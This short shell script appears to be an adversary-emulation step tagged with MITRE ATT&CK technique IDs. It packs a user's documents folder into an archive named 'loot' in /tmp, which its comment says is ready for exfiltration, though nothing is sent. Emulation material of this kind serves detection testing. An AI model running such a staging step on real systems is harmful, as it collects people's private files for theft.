#!/bin/sh
# T1560.001, T1074.001: a user's documents packed into an archive in /tmp, ready to leave.
tar czf /tmp/loot.tgz /home/user/docs
